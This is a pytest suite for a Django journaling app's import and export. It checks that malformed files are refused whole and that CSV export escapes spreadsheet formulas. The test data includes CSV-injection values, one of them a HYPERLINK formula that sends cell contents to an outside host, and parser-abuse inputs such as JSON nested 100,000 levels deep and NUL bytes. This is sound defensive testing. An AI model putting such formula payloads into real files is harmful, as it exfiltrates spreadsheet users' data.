"""Import and export never answer with a server error and never store half a file."""

import csv
import datetime as dt
import io
import json
import zipfile

import pytest
import time_machine
from django.apps import apps
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from journal.forms import CHANNEL_FIELDS
from journal.models import Channel, Reflection, Reminder
from journal.portability import imports
from journal.services.reminders import send_due
from needs.models.needs import CheckIn, Need
from needs.models.relationships import PausePlan, Relationship, RelationshipRating
from tests.conftest import make_person, run_background_tasks
from tests.factories import make_checkin, make_need, make_reflection
from tests.journal.test_data_ownership import exported, reauthenticated, seed_everything

pytestmark = pytest.mark.django_db


def row_counts() -> dict:
    """Rows of every model of the two apps that hold what people own (through tables included)."""
    return {
        model._meta.label: model.objects.count()
        for model in apps.get_models(include_auto_created=True)
        if model._meta.app_label in {"needs", "journal"}
    }


def post_import(client, content: bytes):
    """Send the file from the import page; a file it takes is imported by the worker, and the answer is then
    the page the person is taken to, with the report."""
    response = client.post(reverse("journal:import"), {"file": SimpleUploadedFile("export.json", content)})
    if response.status_code != 302:
        return response
    run_background_tasks()
    return client.get(response["Location"])


VALID_NEED = {"id": "n1", "name": "Rest", "category": "physical", "importance": 3}


def file_with(**parts) -> bytes:
    """A file whose first part is a valid need (imported first), so a refusal must undo nothing."""
    return json.dumps({"schema_version": 1, "needs": [VALID_NEED], **parts}).encode()


def with_needs(*records) -> bytes:
    return json.dumps({"schema_version": 1, "needs": [VALID_NEED, *records]}).encode()


DEEP = 100_000
WRONG_SHAPES = {
    "nested 100,000 deep": (b"[" * DEEP + b"]" * DEEP, "nested far deeper than any Attune export"),
    "nested 100,000 deep inside a record": (
        b'{"schema_version": 1, "needs": ' + b"[" * DEEP + b"]" * DEEP + b"}",
        "nested far deeper than any Attune export",
    ),
    "a number 5,000 digits long": (
        b'{"schema_version": 1, "needs": [{"id": "n1", "importance": ' + b"9" * 5000 + b"}]}",
        "a number thousands of digits long",
    ),
    "a need id holding a list": (with_needs({**VALID_NEED, "id": ["n2"], "name": "Play"}), "“needs” #2 → id"),
    "a need id holding an object": (
        with_needs({**VALID_NEED, "id": {"a": 1}, "name": "Play"}),
        "“needs” #2 → id should be an id",
    ),
    "a need id holding a huge number": (
        with_needs({**VALID_NEED, "id": 10**300, "name": "Play"}),
        "“needs” #2 → id should be an id",
    ),
    "a need record that is a string": (with_needs("Play"), "“needs” #2 should be a record"),
    "a need record that is null": (with_needs(None), "“needs” #2 should be a record"),
    "a check-in's need holding a list": (
        file_with(checkins=[{"need": ["n1"], "date": "2026-01-01", "score": 5}]),
        "“checkins” #1 → need should be an id",
    ),
    "a check-in's need holding an object": (
        file_with(checkins=[{"need": {"id": "n1"}, "date": "2026-01-01", "score": 5}]),
        "“checkins” #1 → need should be an id",
    ),
    "a check-in's score holding an object": (
        file_with(checkins=[{"need": "n1", "date": "2026-01-01", "score": {"a": []}}]),
        "“checkins” #1 → score should be text, a number, true or false",
    ),
    "a reflection's needs holding a list": (
        file_with(reflections=[{"id": "r1", "date": "2026-01-01", "body": "x", "needs": [["n1"]]}]),
        "“reflections” #1 → needs #1 should be an id",
    ),
    "a reflection's needs holding an object": (
        file_with(reflections=[{"id": "r1", "date": "2026-01-01", "body": "x", "needs": [{"n1": 1}]}]),
        "“reflections” #1 → needs #1 should be an id",
    ),
    "a reflection's needs a number": (
        file_with(reflections=[{"id": "r1", "date": "2026-01-01", "body": "x", "needs": 7}]),
        "“reflections” #1 → needs should be a list",
    ),
    "a reflection's prompt slug a list": (
        file_with(reflections=[{"id": "r1", "date": "2026-01-01", "body": "x", "prompt_slug": ["a"]}]),
        "“reflections” #1 → prompt_slug should be text",
    ),
    "love_profile.needs a number": (
        file_with(love_profile={"text": "Loved", "needs": 3}),
        "“love_profile” → needs should be a list",
    ),
    "relationship ratings a number": (
        file_with(relationships=[{"id": "p1", "nickname": "Sam", "kind": "friend", "ratings": 5}]),
        "“relationships” #1 → ratings should be a list",
    ),
    "a rating that is a list": (
        file_with(relationships=[{"id": "p1", "nickname": "Sam", "kind": "friend", "ratings": [[1]]}]),
        "“relationships” #1 → ratings #1 should be a record",
    ),
    "settings a list": (file_with(settings=["UTC"]), "“settings” should be a record"),
    "reminders a number": (file_with(settings={"reminders": 1}), "“settings” → reminders should be a record"),
    "a need id with NUL": (with_needs({**VALID_NEED, "id": "n2\x00", "name": "Play"}), "a NUL"),
    "a catalogue slug with NUL": (
        with_needs({**VALID_NEED, "id": "n2", "name": "Play", "catalogue_slug": "rest\x00"}),
        "a NUL",
    ),  # fmt: skip
    "a reflection id with NUL": (
        file_with(reflections=[{"id": "\x00", "date": "2026-01-01", "body": "x"}]),
        "a NUL",
    ),
    "a need name with NUL": (with_needs({**VALID_NEED, "id": "n2", "name": "Pl\x00ay"}), "a NUL"),
    "an unpaired surrogate": (
        b'{"schema_version": 1, "needs": [{"id": "n1", "name": "\\ud800", "category": "physical"}]}',
        "unpaired surrogate",
    ),
    "an id longer than any": (with_needs({**VALID_NEED, "id": "x" * 65, "name": "Play"}), "at most 64"),
    "needs an object": (b'{"schema_version": 1, "needs": {"n1": {}}}', "“needs” should be a list"),
    "schema_version a list": (b'{"schema_version": [1]}', "its schema_version isn’t a number"),
    "schema_version true": (b'{"schema_version": true}', "its schema_version isn’t a number"),
    "schema_version huge": (
        b'{"schema_version": ' + b"7" * 4000 + b"}",
        "schema version a number this Attune doesn’t know",
    ),
}


@pytest.mark.parametrize("content, message", list(WRONG_SHAPES.values()), ids=list(WRONG_SHAPES))
def test_a_file_of_the_wrong_shape_is_refused_whole_with_a_clear_message(client, alice, content, message):
    seed_everything(alice)  # an account with something in it: a refusal must leave every row as it was
    reauthenticated(client, alice)
    client.get(reverse("journal:import"))
    before = row_counts()
    response = post_import(client, content)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Nothing was imported." in html and message in html
    assert row_counts() == before


def test_the_service_refuses_a_wrong_shape_before_writing_anything(alice):
    data = json.loads(file_with(checkins=[{"need": ["n1"], "date": "2026-01-01", "score": 5}]))
    before = row_counts()
    with pytest.raises(imports.ImportRefused, match="“checkins” #1 → need should be an id"):
        imports.import_data(user=alice, data=data)
    assert row_counts() == before
    assert not Need.objects.exists()


def test_values_a_form_refuses_refuse_only_their_record(client, alice):
    """Shapes right, values wrong: the record is listed with its reason, the rest comes in, no error."""
    content = file_with(
        checkins=[{"need": "n1", "date": "1899-12-31", "score": 5}, {"need": "n1", "date": "2026-01-01", "score": 4}],
        relationships=[{"id": "p1", "nickname": "Sam", "kind": "friend",
                        "ratings": [{"need": "n1", "date": "2026-01-01", "score": float("inf")},
                                    {"need": "n1", "date": "2026-01-01", "score": 10**40},
                                    {"need": "n1", "date": "2026-01-02", "score": 6}]}],
    )  # fmt: skip
    reauthenticated(client, alice)
    response = post_import(client, content)
    html = response.content.decode()
    assert response.status_code == 200 and "Import finished" in html
    assert "Checkins #1: Choose a date after 1900." in html
    assert html.count("a rating has an unknown need, a bad date or a score outside 0–10") == 2
    assert [c.date for c in CheckIn.objects.for_user(alice)] == [dt.date(2026, 1, 1)]
    assert list(RelationshipRating.objects.filter(owner=alice).values_list("score", flat=True)) == [6]


def delete_relationship(client, rel):
    response = client.post(reverse("needs:relationship_remove", args=[rel.pk]))
    assert response.status_code == 302


def test_importing_again_after_deleting_an_imported_relationship_brings_it_back(client, alice, bob):
    seed_everything(alice, text="restore")
    content = json.dumps(exported(alice)).encode()
    reauthenticated(client, bob)
    assert "Import finished" in post_import(client, content).content.decode()
    rel = Relationship.objects.for_user(bob).get()
    delete_relationship(client, rel)
    assert not Relationship.objects.for_user(bob).exists()
    trashed = Reflection.objects.for_user(bob).order_by("date").first()
    client.post(reverse("journal:reflection_delete", args=[trashed.pk]))

    response = post_import(client, content)
    assert response.status_code == 200 and "Import finished" in response.content.decode()
    assert response.context["report"]["imported"]["relationships"] == 1
    back = Relationship.objects.for_user(bob).get()
    assert back.pk != rel.pk and back.reveal("nickname", owner=bob) == "Friend restore"
    assert [r.score for r in back.ratings.all()] == [3]
    assert back.pause_plan.reveal("what_must_change", owner=bob) == "Change restore"
    # A reflection in the trash isn't gone: it stays there, restorable, and no copy appears beside it.
    assert Reflection.objects.for_user(bob).count() == 2
    assert list(Reflection.objects.for_user(bob).trashed()) == [trashed]

    # The bookkeeping now points at the new row: a third import adds nothing.
    again = post_import(client, content).context["report"]
    assert sum(again["imported"].values()) == 0 and again["unchanged"]["relationships"] == 1
    assert Relationship.objects.for_user(bob).count() == 1


def test_importing_again_after_deleting_an_imported_need_brings_it_back_with_its_check_ins(
    client, alice, bob
):
    seed_everything(alice)
    content = json.dumps(exported(alice)).encode()
    reauthenticated(client, bob)
    post_import(client, content)
    rest = Need.objects.for_user(bob).get(name="Rest")
    assert client.post(reverse("needs:need_delete", args=[rest.pk])).status_code == 302
    assert not Need.objects.for_user(bob).filter(name="Rest").exists()

    report = post_import(client, content).context["report"]
    assert report["refused_total"] == 0 and report["imported"]["needs"] == 1
    back = Need.objects.for_user(bob).get(name="Rest")
    assert [c.score for c in CheckIn.objects.for_user(bob).filter(need=back)] == [7]


def test_the_import_page_says_what_importing_again_does(client, alice):
    reauthenticated(client, alice)
    html = client.get(reverse("journal:import")).content.decode()
    assert "Something from the file that you deleted here since comes back" in html
    assert "is refused whole" in html and "nothing in your journal changes" in html


WRONG_MASTER_KEY = b"a key that never wrapped anything"[:32]


@pytest.mark.parametrize("name", ["journal:export_json", "journal:export_csv", "journal:export_markdown"])
def test_an_export_with_a_wrong_master_key_is_refused_before_streaming(client, alice, settings, name):
    seed_everything(alice)
    reauthenticated(client, alice)
    settings.ATTUNE_MASTER_KEYS = [WRONG_MASTER_KEY]
    response = client.get(reverse(name))
    assert response.status_code == 503 and not response.streaming
    assert "Your journal can’t be opened right now" in response.content.decode()
    assert "attachment" not in response.get("Content-Disposition", "")


FORMULAS = {
    '=HYPERLINK("https://example.com/?"&A1,"open")': '\'=HYPERLINK("https://example.com/?"&A1,"open")',
    "+1 better": "'+1 better",
    "-3 worse": "'-3 worse",
    "@SUM(A1)": "'@SUM(A1)",
    "\tindented": "'\tindented",
    "\rreturn": "'\rreturn",
    "plain words = fine": "plain words = fine",
}


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(client, alice):
    formula_need = make_need(alice, "=1+1", "mental")
    for day, note in enumerate(FORMULAS, start=1):
        make_checkin(alice, formula_need, dt.date(2026, 1, day), day, note=note)
    make_reflection(alice, body="x", date=dt.date(2026, 1, 1), anxiety=0, confidence=10)
    reauthenticated(client, alice)
    response = client.get(reverse("journal:export_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    checkins = [row for row in rows if row[1] == "check-in"]
    assert [row[7] for row in checkins] == list(FORMULAS.values())
    assert {row[2] for row in checkins} == {"'=1+1"}
    assert [row[4] for row in checkins] == [
        str(n) for n in range(1, len(FORMULAS) + 1)
    ]  # numbers stay numbers
    assert ["2026-01-01", "feelings", "", "", "", "0", "10", ""] in rows

    # The JSON export keeps the words exactly, so a round trip through import is unchanged.
    data = exported(alice)
    assert data["needs"][0]["name"] == "=1+1"
    assert [c["note"] for c in data["checkins"]] == list(FORMULAS)
    fresh = make_person("fresh@example.com")
    assert imports.import_data(user=fresh, data=data).refused == []
    # (A note starting with a tab or a carriage return can't be typed: forms trim it, on import too.)
    assert [c["note"] for c in exported(fresh)["checkins"]] == [n.strip() for n in FORMULAS]


def test_the_markdown_export_has_a_readme_that_explains_the_csv_apostrophe(client, alice):
    reauthenticated(client, alice)
    response = client.get(reverse("journal:export_markdown"))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    readme = archive.read("attune-journal/README.txt").decode()
    assert "begins with an apostrophe (')" in readme and "=, +, -," in readme
    assert "It is the only file Attune can import back" in readme


def test_importing_an_export_with_a_past_check_back_day_keeps_the_plan_and_sends_no_email(alice, bob):
    seed_everything(alice, text="moved")  # reminders on at 21:00 in Tokyo; a plan to check back on 1 March
    data = exported(alice)
    assert data["relationships"][0]["pause_plan"]["check_back_on"] == "2026-03-01"
    data["relationships"].append(
        {
            "id": "later",
            "nickname": "Later friend",
            "kind": data["relationships"][0]["kind"],
            "ratings": [],
            "pause_plan": {"what_must_change": "Later change", "check_back_on": "2026-06-20"},
        }
    )
    with time_machine.travel(dt.datetime(2026, 6, 10, 12, 0, tzinfo=dt.UTC), tick=False):
        report = imports.import_data(user=bob, data=data)
    assert report.refused == [] and report.imported["relationships"] == 2
    plans = {plan.reveal("what_must_change", owner=bob): plan for plan in PausePlan.objects.for_user(bob)}
    assert plans["Change moved"].check_back_on == dt.date(2026, 3, 1)  # kept as it was, not refused
    assert plans["Later change"].check_back_on == dt.date(2026, 6, 20)

    def check_backs_sent(now: dt.datetime) -> int:
        mail.outbox.clear()
        send_due(now)
        return sum("check-back" in m.subject for m in mail.outbox if m.to == [bob.email])

    # Bob's reminder time (21:00 in Tokyo, 12:00 UTC) on the day of the import: nothing about 1 March.
    assert check_backs_sent(dt.datetime(2026, 6, 10, 12, 5, tzinfo=dt.UTC)) == 0
    assert check_backs_sent(dt.datetime(2026, 6, 11, 12, 5, tzinfo=dt.UTC)) == 0
    # The plan whose day is still ahead is reminded on that day, once.
    assert check_backs_sent(dt.datetime(2026, 6, 20, 12, 5, tzinfo=dt.UTC)) == 1
    assert check_backs_sent(dt.datetime(2026, 6, 20, 12, 6, tzinfo=dt.UTC)) == 0


@pytest.mark.parametrize(
    ("plan", "reason"),
    [
        (
            {"what_must_change": "", "check_back_on": "2026-07-01"},
            "what_must_change: This field is required.",
        ),
        ({"what_must_change": "x" * 2001, "check_back_on": "2026-07-01"}, "(it has 2001)"),
        ({"what_must_change": "Words", "check_back_on": "1 July"}, "check_back_on: Enter a valid date."),
    ],
)
def test_a_pause_plan_the_pause_plan_form_refuses_is_refused_with_its_reason(alice, plan, reason):
    record = {"id": "r1", "nickname": "Friend", "kind": "friend", "pause_plan": plan}
    report = imports.import_data(user=alice, data={"schema_version": 1, "relationships": [record]})
    assert [r["kind"] for r in report.refused] == ["relationships"]
    assert reason in report.refused[0]["reason"] and "pause plan" in report.refused[0]["reason"]
    assert not PausePlan.objects.exists()


@pytest.mark.parametrize("push_on", [True, False])
def test_how_each_reminder_is_sent_moves_with_the_export(alice, bob, settings, push_on):
    settings.ATTUNE_VAPID_PRIVATE_KEY = settings.ATTUNE_VAPID_PUBLIC_KEY = "key" if push_on else ""
    Reminder.objects.create(
        owner=alice,
        daily_enabled=True,
        daily_channel=Channel.PUSH,
        weekly_channel=Channel.BOTH,
        check_back_channel=Channel.PUSH,
    )
    data = exported(alice)
    assert {k: data["settings"]["reminders"][k] for k in CHANNEL_FIELDS} == {
        "daily_channel": "push",
        "weekly_channel": "both",
        "check_back_channel": "push",
    }
    assert imports.import_data(user=bob, data=data).refused == []
    reminder = Reminder.objects.for_user(bob).get()
    assert reminder.daily_enabled
    # A server without push keeps every reminder an email, as its settings page does.
    expected = ("push", "both", "push") if push_on else ("email", "email", "email")
    assert tuple(getattr(reminder, k) for k in CHANNEL_FIELDS) == expected

    # A file from before push (no channels) keeps what is saved; a channel that doesn't exist is refused.
    del data["settings"]["reminders"]["daily_channel"]
    data["settings"]["reminders"]["weekly_channel"] = "pigeon"
    report = imports.import_data(user=bob, data=data)
    reminder.refresh_from_db()
    channels = (reminder.daily_channel, reminder.weekly_channel)
    if push_on:
        assert [r["kind"] for r in report.refused] == ["settings"] and "pigeon" in report.refused[0]["reason"]
        assert channels == ("push", "both")
    else:
        assert report.refused == [] and channels == ("email", "email")
